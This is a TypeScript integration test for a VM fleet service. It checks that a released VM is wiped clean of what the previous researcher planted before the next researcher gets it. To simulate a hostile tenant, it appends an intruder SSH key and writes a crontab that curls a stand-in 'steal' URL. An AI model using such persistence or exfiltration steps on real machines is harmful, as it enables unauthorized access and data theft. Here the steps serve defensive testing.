import { type ChildProcess, execFileSync, spawn } from "node:child_process";
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { lookupUser } from "../../agent/src/accounts";
import { LocalFleetDriver } from "../../server/cloud/local/driver";
import { type Fleet, type Vm, vms } from "../../server/db/schema";
import { claimVm, releaseVm } from "../../server/domain/allocation";
import { fleetLedger } from "../../server/domain/convergence";
import { ensureFleet } from "../../server/domain/fleets";
import { researchAccountName } from "../../server/domain/replacement";
import { addSshKey } from "../../server/domain/ssh-keys";
import { logger } from "../../server/log";
import { createTestDatabase, type TestDatabase } from "../db";
import { makeUser } from "../fixtures";
import { startApiServer } from "../http";
import { sshKey } from "../ssh-keys";

/**
 * A clean VM for every researcher, with real agent processes of the local fleet that create and
 * delete real Unix accounts: holder A plants an SSH key outside the managed block, a crontab, a
 * file in /tmp and a running process; after release and the wipe, holder B's account can reach
 * none of them. Needs root (CI runs as root) and useradd; skipped with the reason otherwise.
 */
const isRoot = process.getuid?.() === 0;
const hasUseradd = ["/usr/sbin/useradd", "/sbin/useradd"].some((p) => existsSync(p));
const skipReason = !isRoot
  ? "not root: the agents cannot create Unix accounts here"
  : !hasUseradd
    ? "useradd is not installed"
    : null;
if (skipReason) console.log(`clean-handover.test.ts skipped: ${skipReason}`);

const HEARTBEAT_S = 60;
const CRON_SPOOL = "/var/spool/cron/crontabs";

let t: TestDatabase;
let api: Awaited<ReturnType<typeof startApiServer>>;
let driver: LocalFleetDriver;
let fleet: Fleet;
const stateDir = mkdtempSync(path.join(os.tmpdir(), "lablink-clean-handover-"));
const accounts = new Set<string>();
const planted: ChildProcess[] = [];

async function waitFor<T>(what: string, fn: () => Promise<T | undefined | false>, ms = 20_000) {
  const deadline = Date.now() + ms;
  for (;;) {
    const v = await fn();
    if (v) return v;
    if (Date.now() > deadline) throw new Error(`timed out after ${ms} ms waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 200));
  }
}

const row = async (id: string) => (await t.db.select().from(vms).where(eq(vms.id, id)))[0] as Vm;
const passwdUser = (name: string) => lookupUser(name, readFileSync("/etc/passwd", "utf8"));
const alive = (pid: number) => {
  try {
    process.kill(pid, 0);
    return true;
  } catch {
    return false;
  }
};

const keys = { ada: sshKey("ed25519"), grace: sshKey("ed25519"), intruder: sshKey("ed25519") };

async function claimAndWait(name: "ada" | "grace") {
  const user = await makeUser(t.db, "researcher", name);
  await addSshKey(t.db, { userId: user.id, publicKey: keys[name] });
  const { vm } = await claimVm(t.db, {
    userId: user.id,
    fleetId: fleet.id,
    actor: { kind: "user", id: user.id },
  });
  const assignmentId = vm.assignmentId as string;
  const account = researchAccountName(assignmentId);
  accounts.add(account);
  await waitFor("the assignment acknowledged", async () => {
    const r = await row(vm.id);
    return r.assignmentAckedId === assignmentId;
  });
  const unix = passwdUser(account);
  if (!unix) throw new Error(`the agent did not create ${account}`);
  return { user, vm, account, unix };
}

beforeAll(async () => {
  if (skipReason) return;
  t = await createTestDatabase();
  api = await startApiServer(t.db, t.sql, HEARTBEAT_S);
  driver = new LocalFleetDriver({
    ledger: fleetLedger(t.db),
    serverUrl: api.url,
    rootDir: path.resolve(import.meta.dirname, "../.."),
    stateDir,
    heartbeatIntervalS: HEARTBEAT_S,
    researchAccounts: "unix",
    log: logger,
  });
  fleet = await ensureFleet(t.db, {
    name: "handover",
    driver: "local",
    instanceType: "local.sim",
    gpuModel: "NVIDIA A10G (simulated)",
    gpuCount: 1,
    desiredSize: 1,
    status: "active",
  });
  await driver.apply(fleet);
  await waitFor(
    "a ready VM",
    async () => (await t.db.select().from(vms)).some((v) => v.state === "ready"),
    30_000,
  );
});

afterAll(async () => {
  if (skipReason) return;
  for (const p of planted) p.kill("SIGKILL");
  await driver?.close();
  // Whatever the test or a failed wipe left: the throw-away accounts never outlive the test.
  for (const name of accounts) {
    for (const f of [
      `/tmp/planted-by-${name}`,
      `/dev/shm/planted-by-${name}`,
      `${CRON_SPOOL}/${name}`,
    ])
      rmSync(f, { force: true });
    if (!passwdUser(name)) continue;
    try {
      execFileSync("pkill", ["-KILL", "-u", name]);
    } catch {
      // none left
    }
    try {
      execFileSync("userdel", ["--remove", name], { stdio: "ignore" });
    } catch {
      // reported by the assertions
    }
  }
  await api?.close();
  await t?.drop();
});

describe.skipIf(skipReason !== null)("a clean VM for every researcher (real Unix accounts)", () => {
  it("holder A's key, crontab, /tmp file and process are gone before holder B gets the VM", async () => {
    const a = await claimAndWait("ada");
    const { unix } = a;
    // A's home comes from /etc/skel with only A's key in it.
    const authorized = path.join(unix.home, ".ssh", "authorized_keys");
    expect(readFileSync(authorized, "utf8")).toContain(keys.ada);

    // What A plants, as A: a key outside LabLink's block, a crontab, a /tmp file, a process.
    const intruder = keys.intruder;
    execFileSync("runuser", [
      "-u",
      a.account,
      "--",
      "sh",
      "-c",
      `echo '${intruder}' >> ~/.ssh/authorized_keys`,
    ]);
    mkdirSync(CRON_SPOOL, { recursive: true });
    const crontab = path.join(CRON_SPOOL, a.account);
    writeFileSync(crontab, "* * * * * curl https://example.invalid/steal\n", { mode: 0o600 });
    execFileSync("chown", [a.account, crontab]);
    const tmpFile = path.join("/tmp", `planted-by-${a.account}`);
    execFileSync("runuser", ["-u", a.account, "--", "sh", "-c", `echo payload > ${tmpFile}`]);
    const shmFile = path.join("/dev/shm", `planted-by-${a.account}`);
    if (existsSync("/dev/shm")) {
      execFileSync("runuser", ["-u", a.account, "--", "sh", "-c", `echo payload > ${shmFile}`]);
    }
    const proc = spawn("sleep", ["600"], {
      uid: unix.uid,
      gid: unix.gid,
      detached: true,
      stdio: "ignore",
    });
    planted.push(proc);
    const pid = proc.pid as number;
    expect(alive(pid)).toBe(true);
    expect(readFileSync(authorized, "utf8")).toContain(intruder);
    expect(existsSync(tmpFile)).toBe(true);

    await releaseVm(t.db, { userId: a.user.id, actor: { kind: "user", id: a.user.id } });
    await waitFor(
      "the VM wiped and ready again",
      async () => (await row(a.vm.id)).state === "ready",
    );

    const b = await claimAndWait("grace");
    expect(b.vm.id).toBe(a.vm.id);
    expect(b.account).not.toBe(a.account);
    expect(b.unix.uid).not.toBe(unix.uid);

    // A's account and everything it planted are gone.
    expect(passwdUser(a.account)).toBeNull();
    expect(existsSync(unix.home)).toBe(false);
    expect(existsSync(crontab)).toBe(false);
    expect(existsSync(tmpFile)).toBe(false);
    expect(existsSync(shmFile)).toBe(false);
    await waitFor(
      "A's process reaped",
      async () => !alive(pid) || proc.exitCode !== null || proc.signalCode !== null,
    );
    expect(proc.signalCode ?? proc.exitCode).toBe("SIGKILL");
    // B's authorized_keys holds B's key alone: nothing of A's, planted or managed.
    const bKeys = readFileSync(path.join(b.unix.home, ".ssh", "authorized_keys"), "utf8");
    expect(bKeys).toContain(keys.grace);
    expect(bKeys).not.toContain(intruder);
    expect(bKeys).not.toContain(keys.ada);
    // B's account is a plain one: no sudo, no docker.
    const groups = execFileSync("id", ["-nG", b.account], { encoding: "utf8" }).trim().split(/\s+/);
    expect(groups).toEqual([b.account]);
    expect(existsSync(`/etc/sudoers.d/lablink-${b.account}`)).toBe(false);

    await releaseVm(t.db, { userId: b.user.id, actor: { kind: "user", id: b.user.id } });
    await waitFor(
      "B's account deleted",
      async () => (await row(b.vm.id)).state === "ready" && !passwdUser(b.account),
    );
  }, 90_000);
});
